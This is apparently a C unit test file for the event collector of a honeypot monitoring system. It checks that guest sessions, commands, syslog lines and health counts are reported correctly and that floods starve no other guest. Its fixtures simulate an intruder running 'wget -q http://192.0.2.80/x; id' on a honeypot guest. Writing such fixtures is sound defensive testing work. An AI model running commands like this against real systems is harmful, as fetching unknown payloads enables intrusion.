/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * collector as super runs it, confined: the wall's copies and two guests' serial ports are scripted, what comes out
 * is read as hub would. Nothing is awaited for less than ten seconds.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "role/role.h"
#include "sensor/test/say.h"
#include "session/session.h"
#include "sys/sys.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PATIENCE_MS 10000

struct rig {
	char path[32];
	int folder, ring_fds[2], super, events[2], serial[2][2];
	struct copy_ring *rings[2];
	uint64_t cursors[2];
	pid_t pid;
	struct event last;
	struct msg_heard heard;
	struct say say[2];
};

static int set_up(void **state)
{
	struct rig *g = calloc(1, sizeof(*g));
	assert_non_null(g);
	text_copy(g->path, sizeof(g->path), "/tmp/skt-n-XXXXXX");
	assert_non_null(mkdtemp(g->path));
	g->folder = open(g->path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	for (unsigned i = 0; i < 2; i++) {
		void *mem;
		assert_int_equal(shm_create("copies", copy_ring_bytes(), &g->ring_fds[i]), 0);
		assert_int_equal(shm_map(g->ring_fds[i], copy_ring_bytes(), true, &mem), 0);
		g->rings[i] = copy_ring_at(mem);
	}
	assert_int_equal(ipc_pair(4 << 20, g->events), 0);
	*state = g;
	return 0;
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *at)
{
	(void)st, (void)type, (void)at;
	return remove(path);
}

static int tear_down(void **state)
{
	struct rig *g = *state;
	nftw(g->path, remove_one, 16, FTW_DEPTH | FTW_PHYS);
	for (unsigned i = 0; i < 2; i++) {
		munmap((void *)g->rings[i], copy_ring_bytes());
		close(g->ring_fds[i]);
		close(g->events[i]);
	}
	close(g->folder);
	free(g);
	return 0;
}

static struct start_collector *start_message(const struct rig *g)
{
	static struct start_collector m;
	memset(&m, 0, sizeof(m));
	m.conf = (struct conf_sessions){.on = 1,
					.wire = 1,
					.keep_days = 10,
					.disk_bytes = 64 << 20,
					.session_bytes = 1 << 20,
					.files_bytes = 64 << 20,
					.file_bytes = 1 << 20};
	text_copy(m.sensor, sizeof(m.sensor), "test");
	memcpy(m.cursors, g->cursors, sizeof(m.cursors));
	m.n_guests = 3;
	for (unsigned i = 0; i < 3; i++) {
		static const char *const names[] = {"web1", "db1", "loghost"};
		const uint8_t in[] = {10, 99, 0, (uint8_t)(10 + i)};
		text_copy(m.guests[i].name, sizeof(m.guests[i].name), names[i]);
		m.guests[i].kind = i == 2 ? GUEST_LOGHOST : GUEST_HONEYPOT;
		m.guests[i].monitor = m.guests[i].shell = m.guests[i].syslog = i < 2;
		m.guests[i].inside = addr_from_v4(in);
	}
	return &m;
}

/* Takes one message of super's channel. */
static uint16_t super_takes(struct rig *g)
{
	_Alignas(8) uint8_t buf[sizeof(struct msg_heard) + 64];
	struct pollfd pfd = {.fd = g->super, .events = POLLIN};
	struct ipc_msg m;
	assert_int_equal(poll(&pfd, 1, PATIENCE_MS), 1);
	int err = ipc_recv(g->super, &role_messages, ROLE_BIT(ROLE_COLLECTOR), ROLE_BIT(ROLE_SUPER),
			   buf, sizeof(buf), &m);
	assert_int_equal(err, 0);
	if (m.type == MSG_HEARD) {
		memcpy(&g->heard, m.payload, sizeof(g->heard));
		memcpy(g->cursors, g->heard.cursors, sizeof(g->cursors));
	}
	return m.type;
}

static void begin(struct rig *g)
{
	int pair[2];
	assert_int_equal(ipc_pair(1 << 20, pair), 0);
	fflush(NULL);
	g->pid = fork();
	assert_true(g->pid >= 0);
	if (g->pid == 0) {
		dup2(pair[1], ROLE_SUPER_FD);
		closefrom(ROLE_SUPER_FD + 1);
		_exit(role_collector());
	}
	close(pair[1]);
	g->super = pair[0];
	const int fds[] = {g->events[1], g->ring_fds[0], g->ring_fds[1], g->folder};
	assert_int_equal(ipc_send(g->super, MSG_START_COLLECTOR, start_message(g),
				  sizeof(struct start_collector), fds, 4),
			 0);
	assert_int_equal(super_takes(g), MSG_READY);
}

static void stop(struct rig *g)
{
	int status;
	assert_int_equal(ipc_send(g->super, MSG_STOP, NULL, 0, NULL, 0), 0);
	while (super_takes(g) != MSG_DONE)
		;
	assert_int_equal(waitpid(g->pid, &status, 0), g->pid);
	assert_int_equal(status, 0);
	close(g->super);
}

/* A guest's machine starts; its end of the serial port is serial[guest][1]. */
static void machine(struct rig *g, uint16_t guest)
{
	const struct msg_monitor m = {.guest = guest, .runs = 1};
	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, g->serial[guest]), 0);
	assert_int_equal(fcntl(g->serial[guest][0], F_SETFL, O_NONBLOCK), 0);
	assert_int_equal(ipc_send(g->super, MSG_MONITOR, &m, sizeof(m), &g->serial[guest][0], 1),
			 0);
	close(g->serial[guest][0]);
}

static void says(struct rig *g, uint16_t guest)
{
	struct say *s = &g->say[guest];
	assert_int_equal(write(g->serial[guest][1], s->buf, s->len), s->len);
	s->len = 0;
}

/* The next event of the kind; NULL word: any, else its text or health word has it. */
static void await(struct rig *g, enum event_kind kind, const char *word)
{
	_Alignas(8) char buf[sizeof(struct event) + 64];
	struct pollfd pfd = {.fd = g->events[0], .events = POLLIN};
	struct ipc_msg m;
	for (;;) {
		assert_int_equal(poll(&pfd, 1, PATIENCE_MS), 1);
		assert_int_equal(ipc_recv(g->events[0], &role_messages, ROLE_BIT(ROLE_COLLECTOR),
					  ROLE_BIT(ROLE_HUB), buf, sizeof(buf), &m),
				 0);
		memcpy(&g->last, m.payload, sizeof(g->last));
		assert_true(event_valid(&g->last));
		if (g->last.kind == kind &&
		    (word == NULL || strstr(g->last.text, word) != NULL ||
		     (kind == EVENT_HEALTH && strcmp(g->last.u.health.what, word) == 0)))
			return;
	}
}

/* A syslog datagram on its way from a guest to the loghost. */
static void logs(struct rig *g, uint16_t guest, const char *line)
{
	uint8_t f[2048] = {2, 0, 0, 0, 1, 3, 2, 0, 0, 0, 1, 1, 8, 0, 0x45};
	uint16_t len = (uint16_t)strlen(line);
	const struct copy_head h = {.stamp_ns = clock_wall_ns(),
				    .flow_id = 77,
				    .guest = (uint16_t)(guest + 1),
				    .peer_guest = 3,
				    .kind = COPY_FRAME_WHOLE,
				    .direction = DIR_LATERAL,
				    .from_guest = 1,
				    .begun_by_guest = 1,
				    .len = 42u + len};
	uint32_t sum = 0;
	store_be16(f + 16, (uint16_t)(28 + len));
	f[22] = 64, f[23] = 17;
	memcpy(f + 26, (const uint8_t[]){10, 99, 0, (uint8_t)(10 + guest), 10, 99, 0, 12}, 8);
	for (unsigned i = 14; i < 34; i += 2)
		sum += load_be16(f + i);
	store_be16(f + 24, (uint16_t) ~(sum % 0xffff));
	store_be16(f + 34, 5000);
	store_be16(f + 36, 514);
	store_be16(f + 38, (uint16_t)(8 + len));
	memcpy(f + 42, line, len);
	copy_put(g->rings[JUDGE_COPY_SYSLOG], &h, f);
}

static void a_beat_is_heard(void **state)
{
	struct rig *g = *state;
	begin(g);
	machine(g, 1);
	say_plain(&g->say[1], SENSOR_HELLO);
	say_plain(&g->say[1], SENSOR_BEAT);
	says(g, 1);
	while (g->heard.guests[1].monitor_ns == 0)
		assert_int_equal(super_takes(g), MSG_HEARD);
	assert_int_equal(g->heard.guests[0].monitor_ns, 0);
	assert_int_equal(g->heard.guests[1].shell_ns, 0);
	stop(g);
	close(g->serial[1][1]);
}

/* Is there a file of today with it? */
static bool kept(const struct rig *g, const char *guest, const char *word)
{
	char day[16], path[128], text[8192] = "";
	time_t now = (time_t)(clock_wall_ns() / NS_PER_SEC);
	struct tm tm;
	strftime(day, sizeof(day), "%Y-%m-%d", gmtime_r(&now, &tm));
	snprintf(path, sizeof(path), "%s/log/%s/%s.log", g->path, guest, day);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	return n > 0 && strstr(text, word) != NULL;
}

static void lines_are_told_and_kept(void **state)
{
	struct rig *g = *state;
	begin(g);
	logs(g, 0, "<38>Nov 28 10:00:00 web9 sshd[12]: Accepted password for root");
	await(g, EVENT_SYSLOG, NULL);
	assert_string_equal(g->last.u.syslog.guest, "web1"); /* by its port, not by its word */
	assert_string_equal(g->last.u.syslog.host, "web9");
	assert_string_equal(g->last.u.syslog.app, "sshd");
	assert_int_equal(g->last.u.syslog.facility, 4);
	assert_int_equal(g->last.flow_id, 77);
	while (g->heard.guests[0].syslog_ns == 0)
		(void)super_takes(g);
	stop(g);
	assert_true(kept(g, "web1", "Accepted password"));
	assert_false(kept(g, "db1", "Accepted password"));
}

static void more_lines_than_events(void **state)
{
	struct rig *g = *state;
	begin(g);
	for (unsigned i = 0; i < 1000; i++)
		logs(g, 1, "<14>Nov 28 10:00:00 db1 app: flood of lines");
	for (uint64_t held = 0; held < 700; held += g->last.u.health.count) {
		await(g, EVENT_HEALTH, "suppressed");
		assert_true(held + g->last.u.health.count <= 800);
	}
	stop(g);
}

/* Rubbish on one port is counted and hurts nobody else; copies of nobody likewise. */
static void rubbish_is_counted(void **state)
{
	struct rig *g = *state;
	const struct copy_head nobody = {.kind = COPY_TALLY, .guest = 60000};
	begin(g);
	machine(g, 0);
	machine(g, 1);
	for (unsigned i = 0; i < 50; i++)
		say_bytes(&g->say[0], "MON1MON1 \x1b]0;no record\x07", 24);
	says(g, 0);
	say_plain(&g->say[1], SENSOR_HELLO);
	says(g, 1);
	await(g, EVENT_HEALTH, "web1");
	assert_string_equal(g->last.u.health.what, "lost");
	assert_true(g->last.u.health.count > 0 && g->last.u.health.count <= 50 * 24);
	copy_put(g->rings[JUDGE_COPY_TALK], &nobody, NULL);
	await(g, EVENT_HEALTH, "refused");
	assert_int_equal(g->last.u.health.count, 1);
	while (g->heard.guests[1].monitor_ns == 0)
		(void)super_takes(g);
	stop(g);
	close(g->serial[0][1]);
	close(g->serial[1][1]);
}

/* One that was killed: the next goes on where it was, no line twice. */
static void the_next_one_goes_on(void **state)
{
	struct rig *g = *state;
	int status;
	begin(g);
	logs(g, 0, "<38>Nov 28 10:00:00 web1 sshd[12]: the first");
	await(g, EVENT_SYSLOG, NULL);
	while (g->cursors[JUDGE_COPY_SYSLOG] == 0)
		(void)super_takes(g);
	kill(g->pid, SIGKILL);
	assert_int_equal(waitpid(g->pid, &status, 0), g->pid);
	close(g->super);
	logs(g, 0, "<38>Nov 28 10:00:01 web1 sshd[12]: the second");
	begin(g);
	await(g, EVENT_SYSLOG, NULL);
	assert_non_null(memmem(g->last.u.syslog.line, g->last.u.syslog.line_len, "second", 6));
	stop(g);
}

/* ---- a visit ------------------------------------------------------------------------------------- */

static struct sensor_text text_of(const char *s, size_t len)
{
	return (struct sensor_text){(const uint8_t *)s, (uint32_t)len};
}

static void comes_in_at(struct say *s, uint64_t visit, uint8_t host)
{
	struct sensor_visit v = {.visit = visit,
				 .pid = 300,
				 .ver = 4,
				 .proto = 6,
				 .peer_port = 40000,
				 .local_port = 22,
				 .peer = {198, 51, 100, 66},
				 .local = {10, 99, 0, host},
				 .comm = "sshd"};
	say_record(s, SENSOR_VISIT, &v, sizeof(v), 0, NULL);
}

static void comes_in(struct say *s, uint64_t visit)
{
	comes_in_at(s, visit, 10);
}

static void runs(struct say *s, uint64_t visit, uint32_t pid)
{
	static const char argv[] = "wget\0-q\0http://192.0.2.80/x";
	const struct sensor_exec e = {.p = {.visit = visit,
					    .pid = pid,
					    .ppid = 300,
					    .uid = 1000,
					    .tty = -1,
					    .comm = "wget"},
				      .argc = 3};
	const struct sensor_text t[] = {text_of("/usr/bin/wget", 13), text_of("/srv/bob", 8),
					text_of(argv, sizeof(argv))};
	say_record(s, SENSOR_EXEC, &e, sizeof(e), 3, t);
}

static void a_command_comes_out_with_its_visit(void **state)
{
	struct rig *g = *state;
	begin(g);
	machine(g, 0);
	say_plain(&g->say[0], SENSOR_HELLO);
	comes_in(&g->say[0], 7);
	runs(&g->say[0], 7, 301);
	says(g, 0);
	await(g, EVENT_SESSION, NULL);
	uint64_t session = g->last.u.session.visit.session;
	assert_string_equal(g->last.u.session.state, "begin");
	await(g, EVENT_COMMAND, NULL);
	const struct event_command *c = &g->last.u.command;
	assert_string_equal(c->layer, "monitor");
	assert_string_equal(c->visit.guest, "web1");
	assert_true(session != 0 && c->visit.session == session);
	assert_int_equal(c->visit.peer_port, 40000);
	assert_int_equal(c->visit.server_port, 22);
	assert_int_equal(c->visit.peer.ver, 4);
	assert_string_equal(c->exe, "/usr/bin/wget");
	assert_string_equal(c->cwd, "/srv/bob");
	/* The shell tells what was typed, by syslog. */
	logs(g, 0,
	     "<182>Nov 28 10:00:00 web1 sh[300]: pid=300 ppid=299 uid=1000 user=bob tty=- seq=1 "
	     "cwd=/srv/bob line=wget -q http://192.0.2.80/x; id");
	do
		await(g, EVENT_COMMAND, NULL);
	while (strcmp(g->last.u.command.layer, "shell") != 0);
	assert_string_equal(g->last.u.command.user, "bob");
	assert_true(g->last.u.command.visit.session == session);
	/* Its machine ends, and the visit with it. */
	const struct msg_monitor gone = {.guest = 0};
	assert_int_equal(ipc_send(g->super, MSG_MONITOR, &gone, sizeof(gone), NULL, 0), 0);
	do
		await(g, EVENT_SESSION, NULL);
	while (strcmp(g->last.u.session.state, "end") != 0);
	assert_true(g->last.u.session.visit.session == session);
	stop(g);
	close(g->serial[0][1]);
}

/* Root in web1 says that a visitor came in at db1's address: by that, hub would find db1's conversation. */
static void nobody_speaks_for_another(void **state)
{
	struct rig *g = *state;
	begin(g);
	machine(g, 0);
	say_plain(&g->say[0], SENSOR_HELLO);
	comes_in_at(&g->say[0], 7, 11);
	runs(&g->say[0], 7, 301);
	says(g, 0);
	await(g, EVENT_COMMAND, NULL);
	const struct event_visit *v = &g->last.u.command.visit;
	assert_string_equal(v->guest, "web1");
	assert_int_equal(v->server.ver, 0);
	assert_int_equal(v->server_port, 0);
	assert_int_equal(v->peer_port, 40000);
	stop(g);
	close(g->serial[0][1]);
}

/* It says over and over that it begins anew, which is work: that has its end, and the other one is heard. */
static void a_flood_of_beginnings_starves_nobody(void **state)
{
	struct rig *g = *state;
	begin(g);
	machine(g, 0);
	machine(g, 1);
	for (unsigned n = 0; n < 200; n++)
		say_plain(&g->say[0], SENSOR_HELLO);
	says(g, 0);
	while (g->heard.guests[0].monitor_ns == 0)
		(void)super_takes(g);
	/* Its budget is spent: what it says now is not read, while the other one's is. */
	int unread = 0;
	say_plain(&g->say[0], SENSOR_HELLO);
	says(g, 0);
	say_plain(&g->say[1], SENSOR_HELLO);
	says(g, 1);
	while (g->heard.guests[1].monitor_ns == 0)
		(void)super_takes(g);
	assert_int_equal(ioctl(g->serial[0][1], TIOCOUTQ, &unread), 0);
	assert_true(unread > 0);
	stop(g);
	close(g->serial[0][1]);
	close(g->serial[1][1]);
}

/* One guest says what it can, for as long as it can: the other one is heard, and memory has its end. */
static void a_flood_starves_nobody(void **state)
{
	struct rig *g = *state;
	char path[64], status[4096] = "";
	begin(g);
	machine(g, 0);
	machine(g, 1);
	fflush(NULL);
	pid_t flood = fork();
	assert_true(flood >= 0);
	if (flood == 0) {
		comes_in(&g->say[0], 7);
		for (uint32_t pid = 400;; pid++) {
			runs(&g->say[0], 7, pid);
			if (write(g->serial[0][1], g->say[0].buf, g->say[0].len) < 0)
				_exit(0);
			g->say[0].len = 0;
		}
	}
	close(g->serial[0][1]);
	await(g, EVENT_HEALTH, "suppressed");
	say_plain(&g->say[1], SENSOR_HELLO);
	says(g, 1);
	while (g->heard.guests[1].monitor_ns == 0)
		(void)super_takes(g);
	snprintf(path, sizeof(path), "/proc/%d/status", (int)g->pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0 && read(fd, status, sizeof(status) - 1) > 0);
	close(fd);
	const char *rss = strstr(status, "VmRSS:");
	assert_non_null(rss);
#ifndef SKEP_SANITIZE
	assert_true(strtoul(rss + 6, NULL, 10) < 128 << 10);
#endif
	kill(flood, SIGKILL);
	waitpid(flood, NULL, 0);
	stop(g);
	close(g->serial[1][1]);
}

/* super is gone: it writes what it has and ends. */
static void an_orphan_ends(void **state)
{
	struct rig *g = *state;
	int status;
	begin(g);
	close(g->super);
	assert_int_equal(waitpid(g->pid, &status, 0), g->pid);
	assert_int_equal(status, 0);
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, set_up, tear_down)
int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(a_command_comes_out_with_its_visit),
		TEST(nobody_speaks_for_another),
		TEST(a_flood_of_beginnings_starves_nobody),
		TEST(a_flood_starves_nobody),
		TEST(a_beat_is_heard),
		TEST(lines_are_told_and_kept),
		TEST(more_lines_than_events),
		TEST(rubbish_is_counted),
		TEST(the_next_one_goes_on),
		TEST(an_orphan_ends),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
